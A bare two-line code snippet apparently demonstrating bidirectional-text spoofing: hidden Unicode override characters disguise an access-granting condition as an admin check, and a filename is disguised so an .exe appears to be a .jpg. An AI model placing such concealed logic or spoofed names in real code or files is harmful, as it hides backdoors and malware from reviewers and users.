if (level != "user‮ ⁦// check admin⁩ ⁦") { grant(); }
const f = "report\u202Egpj.exe";
